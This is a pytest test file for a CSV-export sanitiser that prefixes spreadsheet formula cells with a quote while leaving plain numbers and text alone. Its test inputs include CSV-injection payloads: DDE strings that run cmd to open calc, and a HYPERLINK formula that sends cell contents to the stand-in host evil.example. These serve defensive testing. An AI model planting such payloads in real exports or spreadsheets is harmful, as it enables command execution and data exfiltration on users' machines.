"""CSV cells a spreadsheet would run as formulas get a leading quote (OWASP); plain numbers stay."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from backend.csvcells import safe_cell, safe_row
from backend.device_api.export import ZipCsv


@pytest.mark.parametrize(
    "formula",
    [
        "=1+2",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1",
        "\r=1",
        '=HYPERLINK("http://evil.example/?"&A1)',
        "-",
        "+",
        "-1,cmd",
        "-inf",
        "-nan",
        "-1e",
        "-3.5 ",
        "-1,2,=3",
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote(formula: str) -> None:
    assert safe_cell(formula) == "'" + formula


@pytest.mark.parametrize(
    "text",
    [
        "-3.5",
        "+1",
        "-40",
        "-1e-3",
        "+1.5E3",
        ".5",
        "-.5",
        "20.",
        "-3.5,40.1",
        "24.1,-56.9",  # numbers, lon,lat
        "door, open",
        "",
        "a=1",
        "1-2",
        " =1",
        "'=1",
        "Temperature",
    ],
)
def test_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
    assert safe_cell(text) == text


def test_safe_row_and_the_export_writer_use_it(tmp_path: Path) -> None:
    assert safe_row(["=a", "-1", "b"]) == ["'=a", "-1", "b"]
    path = tmp_path / "x.zip"
    writer = ZipCsv(path)
    writer.begin("data.csv", ["name", "value"])
    writer.write([("=cmd", "-2"), ("ok", '=x,"y"')], lambda row: list(row))
    writer.close()
    with zipfile.ZipFile(path) as zf:
        raw = zf.read("data.csv").decode()
        rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert rows == [["name", "value"], ["'=cmd", "-2"], ["ok", '\'=x,"y"']]
    assert raw.splitlines()[2] == '''ok,"'=x,""y"""'''  # quoted by the csv module, quotes doubled
